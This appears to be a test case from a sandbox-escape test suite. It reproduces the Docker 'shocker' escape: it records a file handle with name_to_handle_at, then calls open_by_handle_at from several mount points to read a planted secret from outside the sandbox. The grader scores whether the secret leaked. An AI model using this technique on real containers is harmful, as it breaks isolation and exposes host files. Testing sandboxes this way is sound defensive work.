"""
id: b-file-handle
class: b
title: open a file outside by its handle, which no path lookup limits
source: docker "shocker": open_by_handle_at
needs: root
"""
from esc import *


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def setup(x):
    path = x.plant(x.o("secret"))
    handle, mount = Handle(bytes=128), ctypes.c_int()
    syscall(303, -100, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
    x.param("handle", [handle.type, list(handle.data[:handle.bytes])])


def attack(x):
    kind, data = x["handle"]
    handle = Handle(bytes=len(data), type=kind)
    handle.data[:len(data)] = data
    for at in (x.project, "/", "/usr", "/etc", "/tmp"):
        mount = os.open(at, os.O_RDONLY)
        fd = x.attempt(syscall, 304, mount, ctypes.byref(handle), os.O_RDONLY)
        if fd:
            x.loot(os.read(fd, 4096))


def verdict(x):
    return x.leaked()


main(globals())
